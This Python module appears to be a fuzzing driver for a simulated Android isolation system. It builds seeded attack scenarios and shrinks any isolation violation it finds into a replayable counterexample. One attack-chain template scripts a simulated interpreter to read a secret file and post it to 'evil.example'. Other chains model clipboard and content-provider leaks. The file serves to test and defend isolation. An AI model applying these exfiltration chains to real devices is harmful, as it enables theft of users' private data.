"""The seeded scenario driver: generate, run, shrink, explain, replay.

``scenario_from_seed`` deterministically expands a seed integer into an
op sequence: one or two attack-chain templates (the adversarial corpus's
leak recipes, in order) interleaved with noise ops drawn from the
reachability-triaged pool. Running the same seed always produces the
same sequence, and :class:`~repro.fuzz.harness.RunResult.fingerprint`
is counter-free, so a violation found at seed ``s`` replays
byte-identically from ``s`` alone.

A found violation is shrunk with greedy delta-debugging (drop every op
whose removal preserves the violation — valid because ops on missing
actors are skips, so any subsequence is a legal scenario) and packaged
as a :class:`Counterexample`: the minimal rendered op listing, every
violation with its full ``provenance.explain()`` lineage chain, the
fault schedule, and the replay fingerprint.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Any, Callable, Dict, List, Mapping, Optional, Sequence, Tuple

from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
from repro.fuzz.harness import FuzzWorld, RunResult, SECRET_PATH, VICTIM_PACKAGE
from repro.obs.recorder import AnchorReached, BlackBox, Event
from repro.fuzz.ops import (
    ArmFault,
    BrowseFile,
    ClearVolatile,
    ClipCopy,
    ClipPaste,
    CrashNow,
    DisarmFaults,
    IngestDocument,
    Op,
    ProviderFetch,
    ProviderInsert,
    ProviderQuery,
    ReadExternal,
    ReadSecret,
    RunScript,
    Spawn,
    VolatileCommit,
    WriteExternal,
)

__all__ = [
    "AnchorHalt",
    "Counterexample",
    "SweepReport",
    "delta_debug",
    "fuzz_sweep",
    "record_scenario",
    "replay_to_anchor",
    "run_scenario",
    "scenario_from_seed",
    "shrink",
]

_INTERP = interpreter.PACKAGE
_BROWSER = exfil_browser.PACKAGE
_LEAKY = leaky_provider.PACKAGE
_MULE = launderer.PACKAGE

#: Fault points a scenario may arm (all on the file/commit hot path).
_FAULT_POINTS = ("vfs.write", "vol.commit", "aufs.copy_up")


def _delegate(package: str) -> str:
    return f"{package}^{VICTIM_PACKAGE}"


def _chain_clip_launder(rng: random.Random) -> List[Op]:
    """Delegate reads the secret and copies it; a plain mule pastes and
    publishes. Dead on a Maxoid device (domain isolation), live when the
    clipboard-isolation vulnerability is planted."""
    delegate = _delegate(rng.choice((_INTERP, _BROWSER)))
    return [
        Spawn(delegate.split("^")[0], VICTIM_PACKAGE),
        ReadSecret(delegate),
        ClipCopy(delegate),
        Spawn(_MULE),
        ClipPaste(_MULE),
        WriteExternal(_MULE, f"loot-{rng.randrange(4)}"),
    ]


def _chain_interpreter(rng: random.Random) -> List[Op]:
    """The classic IFL interpreter chain, run as a delegate: read the
    secret, exfiltrate to external storage. Confined to Vol(victim)."""
    name = f"drop-{rng.randrange(4)}"
    return [
        Spawn(_INTERP, VICTIM_PACKAGE),
        RunScript(
            _delegate(_INTERP),
            f"read {SECRET_PATH}\nexfil {name}\npost evil.example {name}",
        ),
    ]


def _chain_browser(rng: random.Random) -> List[Op]:
    """The file:// exfil browser as a delegate: render, mirror, beacon."""
    return [
        Spawn(_BROWSER, VICTIM_PACKAGE),
        BrowseFile(_delegate(_BROWSER), SECRET_PATH),
    ]


def _chain_provider(rng: random.Random) -> List[Op]:
    """A delegate leaky-provider instance hoards the secret; a plain
    attacker tries to fetch it over the exported surface and publish."""
    return [
        Spawn(_LEAKY, VICTIM_PACKAGE),
        IngestDocument(_delegate(_LEAKY), SECRET_PATH),
        Spawn(_LEAKY),
        Spawn(_MULE),
        ProviderFetch(_MULE, "secret.txt"),
        WriteExternal(_MULE, f"served-{rng.randrange(4)}"),
    ]


_CHAINS: Tuple[Callable[[random.Random], List[Op]], ...] = (
    _chain_clip_launder,
    _chain_interpreter,
    _chain_browser,
    _chain_provider,
)


def _noise_op(rng: random.Random, actors: Sequence[str]) -> Op:
    """One op from the triage-reachable pool, no attack intent."""
    actor = rng.choice(tuple(actors))
    kind = rng.randrange(10)
    if kind == 0:
        return ProviderInsert(actor)
    if kind == 1:
        return ProviderQuery(actor)
    if kind == 2:
        return ReadExternal(actor, f"loot-{rng.randrange(4)}")
    if kind == 3:
        return ClipPaste(actor)
    if kind == 4:
        return WriteExternal(actor, f"note-{rng.randrange(4)}")
    if kind == 5:
        return VolatileCommit(VICTIM_PACKAGE)
    if kind == 6:
        return ClearVolatile(VICTIM_PACKAGE)
    if kind == 7:
        return ArmFault(rng.choice(_FAULT_POINTS), nth=rng.randrange(1, 4))
    if kind == 8:
        return DisarmFaults()
    return CrashNow()


def scenario_from_seed(seed: int, noise: int = 6) -> List[Op]:
    """Deterministically expand a seed into an op sequence: one or two
    attack chains with ``noise`` extra ops spliced between their steps."""
    rng = random.Random(seed)
    ops: List[Op] = [Spawn(VICTIM_PACKAGE)]
    for chain in rng.sample(_CHAINS, k=rng.choice((1, 2))):
        ops.extend(chain(rng))
    actors = [VICTIM_PACKAGE, _MULE] + [
        op.key for op in ops if isinstance(op, Spawn)
    ]
    for _ in range(noise):
        ops.insert(rng.randrange(1, len(ops) + 1), _noise_op(rng, actors))
    return ops


def run_scenario(
    ops: Sequence[Op], planted: Optional[str] = None, maxoid: bool = True
) -> RunResult:
    """Run one op sequence in a fresh world; returns its RunResult."""
    world = FuzzWorld(planted=planted, maxoid=maxoid)
    world.start()
    try:
        for op in ops:
            world.step(op)
        return world.result()
    finally:
        world.close()


def record_scenario(
    ops: Sequence[Op],
    planted: Optional[str] = None,
    maxoid: bool = True,
    capacity: int = 4096,
    **seal_extra: Any,
) -> Tuple[RunResult, BlackBox]:
    """Run one op sequence with the flight recorder armed; returns the
    RunResult plus the sealed ``counterexample`` black box.

    The dump is sealed *inside* the world's lifetime so its metadata
    carries the still-armed fault policies and consult schedule."""
    world = FuzzWorld(planted=planted, maxoid=maxoid, record=True, record_capacity=capacity)
    world.start()
    try:
        for op in ops:
            world.step(op)
        result = world.result()
        box = world.seal_recording("counterexample", **seal_extra)
        assert box is not None
        return result, box
    finally:
        world.close()


@dataclass
class AnchorHalt:
    """A replay halted at its anchor, with the world still standing.

    The caller inspects ``world.device`` (filesystems, audit log,
    provenance ledger) and the recorder's ring, then MUST call
    ``halt.world.close()`` to leave the device's planes clean."""

    world: FuzzWorld
    event: Event

    @property
    def recorder(self) -> Any:
        """The world's (still ring-bearing) flight recorder."""
        return self.world.device.obs.recorder

    def events_digest(self) -> str:
        """Digest of the replayed event prefix — compared against the
        recorded dump's digest for the byte-identity acceptance check."""
        from repro.obs.recorder import events_digest

        return events_digest(tuple(self.recorder.events()))


def replay_to_anchor(
    counterexample: "Counterexample", anchor_seq: Optional[int] = None
) -> AnchorHalt:
    """Re-run a counterexample's minimal sequence with the recorder armed
    and halt at the anchor event — the replay-to-anchor postmortem.

    ``anchor_seq`` defaults to the recorded black box's anchor (its last
    event). Returns an :class:`AnchorHalt` whose world is still open for
    inspection; raises RuntimeError if the replay drifts and never
    reaches the anchor."""
    if anchor_seq is None:
        if counterexample.blackbox is None:
            raise ValueError("counterexample carries no flight recording")
        anchor_seq = counterexample.blackbox.anchor_seq
    ops = scenario_from_seed(counterexample.seed)
    minimal = [ops[i] for i in counterexample.kept]
    world = FuzzWorld(
        planted=counterexample.planted,
        maxoid=counterexample.maxoid,
        record=True,
        halt_at=anchor_seq,
    )
    world.start()
    try:
        for op in minimal:
            world.step(op)
    except AnchorReached as reached:
        return AnchorHalt(world=world, event=reached.event)
    except BaseException:
        world.close()
        raise
    world.close()
    raise RuntimeError(
        f"replay never reached anchor event #{anchor_seq} "
        f"(recorded {world.device.obs.recorder.seq} events) — recording and "
        f"scenario disagree"
    )


#: Ops the shrinker drops in its first pass: they only ever mask a leak,
#: and they perturb everything downstream of them.
_FAULT_OPS = (ArmFault, DisarmFaults, CrashNow)


def delta_debug(
    tracks: Mapping[str, Sequence[Op]],
    violates: Callable[[Dict[str, List[int]]], bool],
) -> Dict[str, List[int]]:
    """Greedy delta-debugging across every track's op slots.

    ``violates(kept)`` re-runs the scenario restricted to the kept slot
    indices of each track. Trials run in three passes: each track's
    fault/crash ops, then whole tracks, then single ops to a fixpoint,
    so every remaining op is load-bearing (removing any one of them
    makes the violation disappear). A trial that keeps no op at all is
    never run. Returns the kept indices per track (a dropped track
    keeps ``[]``)."""
    kept = {name: list(range(len(ops))) for name, ops in tracks.items()}

    def keep_if_violating(trial: Dict[str, List[int]]) -> bool:
        nonlocal kept
        if any(trial.values()) and violates(trial):
            kept = trial
            return True
        return False

    names = sorted(tracks)
    for name in names:
        fault_free = [
            i for i in kept[name] if not isinstance(tracks[name][i], _FAULT_OPS)
        ]
        if fault_free != kept[name]:
            keep_if_violating({**kept, name: fault_free})
    for name in names:
        if kept[name]:
            keep_if_violating({**kept, name: []})
    changed = True
    while changed:
        changed = False
        for name in names:
            for index in list(kept[name]):
                trial = {**kept, name: [i for i in kept[name] if i != index]}
                changed |= keep_if_violating(trial)
    return kept


def shrink(
    ops: Sequence[Op], planted: Optional[str] = None, maxoid: bool = True
) -> List[int]:
    """The indices of a minimal violating subsequence of ``ops``:
    :func:`delta_debug` over a single track."""

    def violates(kept: Dict[str, List[int]]) -> bool:
        minimal = [ops[i] for i in kept[""]]
        return bool(run_scenario(minimal, planted, maxoid).violations)

    return delta_debug({"": ops}, violates)[""]


@dataclass
class Counterexample:
    """A shrunk, replayable, lineage-annotated violation report."""

    seed: int
    planted: Optional[str]
    maxoid: bool
    kept: Tuple[int, ...]
    ops: Tuple[Op, ...]
    result: RunResult
    #: The flight recording of the minimal run (when the sweep recorded
    #: one) — the replay-to-anchor postmortem's input.
    blackbox: Optional[BlackBox] = None

    @property
    def fingerprint(self) -> str:
        return self.result.fingerprint()

    def render(self) -> str:
        """The human-readable counterexample: minimal ops + lineage."""
        lines = [
            f"counterexample: seed={self.seed} planted={self.planted} "
            f"maxoid={self.maxoid} fingerprint={self.fingerprint[:16]}",
            f"minimal sequence ({len(self.ops)} ops, "
            f"shrunk from scenario ops {list(self.kept)}):",
        ]
        for step, op in enumerate(self.ops, 1):
            lines.append(f"  {step}. {op.render()}")
        lines.append("violations:")
        for violation in self.result.violations:
            lines.append("  " + violation.render().replace("\n", "\n  "))
        return "\n".join(lines)

    def to_dict(self) -> dict:
        return {
            "seed": self.seed,
            "planted": self.planted,
            "maxoid": self.maxoid,
            "kept": list(self.kept),
            "ops": [op.render() for op in self.ops],
            "outcomes": [list(pair) for pair in self.result.outcomes],
            "violations": self.result.violation_renders(),
            "schedule": self.result.schedule.decode(),
            "fingerprint": self.fingerprint,
            "blackbox": (
                None
                if self.blackbox is None
                else {
                    "anchor_seq": self.blackbox.anchor_seq,
                    "events": len(self.blackbox.events),
                    "events_digest": self.blackbox.events_digest(),
                }
            ),
        }

    def replay(self) -> RunResult:
        """Re-derive the minimal sequence from the recorded seed and run
        it again; the caller asserts fingerprint equality."""
        ops = scenario_from_seed(self.seed)
        minimal = [ops[i] for i in self.kept]
        return run_scenario(minimal, planted=self.planted, maxoid=self.maxoid)


@dataclass
class SweepReport:
    """What a fuzz sweep covered and (maybe) found."""

    examples: int
    counterexample: Optional[Counterexample] = None

    @property
    def found(self) -> bool:
        return self.counterexample is not None


def fuzz_sweep(
    n: int,
    base_seed: int = 0,
    planted: Optional[str] = None,
    maxoid: bool = True,
    artifact_path: Optional[str] = None,
    blackbox_path: Optional[str] = None,
) -> SweepReport:
    """Run ``n`` seeded scenarios; shrink and report the first violation.

    ``artifact_path`` (used by the CI fuzz lane) receives the
    counterexample as JSON when one is found; the minimal run is then
    re-run with the flight recorder armed so every counterexample ships
    a black-box recording (written to ``blackbox_path`` when given).
    """
    for index in range(n):
        seed = base_seed + index
        ops = scenario_from_seed(seed)
        result = run_scenario(ops, planted=planted, maxoid=maxoid)
        if not result.violations:
            continue
        kept = shrink(ops, planted=planted, maxoid=maxoid)
        minimal = [ops[i] for i in kept]
        final, box = record_scenario(
            minimal, planted=planted, maxoid=maxoid, seed=seed, kept=list(kept)
        )
        counterexample = Counterexample(
            seed=seed,
            planted=planted,
            maxoid=maxoid,
            kept=tuple(kept),
            ops=tuple(minimal),
            result=final,
            blackbox=box,
        )
        if artifact_path is not None:
            with open(artifact_path, "w", encoding="utf-8") as sink:
                json.dump(counterexample.to_dict(), sink, indent=2)
        if blackbox_path is not None:
            from repro.obs.artifacts import write_blackbox

            write_blackbox(blackbox_path, box)
        return SweepReport(examples=index + 1, counterexample=counterexample)
    return SweepReport(examples=n)
